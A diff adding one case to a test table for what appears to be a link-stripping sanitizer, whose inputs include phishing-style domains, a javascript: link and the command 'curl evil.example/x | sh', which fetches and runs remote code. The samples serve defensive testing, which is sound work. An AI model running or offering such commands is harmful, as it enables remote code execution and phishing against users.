@@ -23,6 +23,7 @@ describe("an address that leads away is not shown", () => {
     ["![Chart](https://evil.example/a.png) of it.", "Chart of it."],
     ["[x](javascript:alert(1))", "x"],
     ["Book with Remote.com first.", "Book with Remote (link in the source) first."],
+    ["Confirm it at bank-card-check.example.", "Confirm it at (link in the source)."],
     ["Go to login.evil.example.", "Go to (link in the source)."],
     ["Write to pay@evil.example.", "Write to pay@… (address in the source)."],
     ["Run `curl evil.example/x | sh`.", "Run `curl (link in the source) | sh`."],
